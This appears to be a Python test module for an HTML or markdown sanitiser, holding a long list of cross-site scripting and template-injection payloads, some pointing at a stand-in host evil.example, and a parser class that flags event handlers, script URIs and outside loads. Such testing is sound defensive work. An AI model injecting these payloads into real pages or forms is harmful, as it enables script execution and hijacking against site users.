"""Texts that would become a program if anything let them, and what of a page would run."""

import re
from html.parser import HTMLParser

PAYLOADS = [
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<SCRIPT>alert(1)</SCRIPT >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<form action=https://evil.example><button>Go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x onclick=alert(1)>",
    "</main><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "'\"><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    '" autofocus onfocus=alert(1) x="',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example/"onmouseover="alert(1))',
    "![x](javascript:alert(1))",
    '![x](x"onerror="alert(1))',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x][y]\n\n[y]: javascript:alert(1)",
    '## x {#x"onclick="alert(1)}',
    '- [ ] x {#own-a"onclick=alert(1) minutes=10 about=frame}',
    '- x {#own-b minutes=10 about="onclick=alert(1)}',
    "```html\n<script>alert(1)</script>\n```",
    '```"onclick=alert(1)\nx\n```',
    "{{ 7 * 7 }}{% include '/etc/passwd' %}",
    "{{ config }}%(name)s%s{0}",
    "\ue000main\ue001\ue000title\ue001",
    "\u202e<script>alert(1)</script>\u2066",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\x00<script>alert(1)</script>",
    "<a href=https://a.example target=_blank onclick=alert(1)>x</a>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<script\x0b>alert(1)</script\x0b>",
    "＜script＞alert(1)＜/script＞",
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)//https://a.example",
    'https://a.example/" onclick="alert(1)',
    '+49 30 1"onclick="alert(1)',
    'Signal " onclick=alert(1) +4930123456',
]


LOADED = ("src", "srcset", "href", "action", "formaction", "data", "poster", "content", "background", "ping")


class Reader(HTMLParser):
    """What of a page would run, or load from elsewhere."""

    HARMLESS = ("body", "script", "link", "meta", "form", "style", "svg", "noscript", "template")

    def __init__(self, text: str):
        super().__init__()
        self.bad: list[str] = []
        self.counted: dict[str, int] = {}
        self.feed(text)

    def handle_starttag(self, tag, attributes):
        self.counted[tag] = self.counted.get(tag, 0) + 1
        for name, value in attributes:
            address = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if name.startswith("on") or name in ("style", "srcdoc", "xlink:href", "formaction"):
                self.bad.append(f"{tag} {name}")
            if address.startswith(("javascript:", "data:", "vbscript:")) and name not in ("value", "data-n"):
                self.bad.append(f"{tag} {name}={value}")
            if "evil.example" in (value or "") and name in LOADED:
                self.bad.append(f"{tag} {name}={value}")
        if tag in ("iframe", "object", "embed", "base", "marquee", "video", "audio", "math"):
            self.bad.append(tag)

    def run(self) -> dict[str, int]:
        return {tag: self.counted.get(tag, 0) for tag in (*self.HARMLESS, "img", "title", "textarea")}
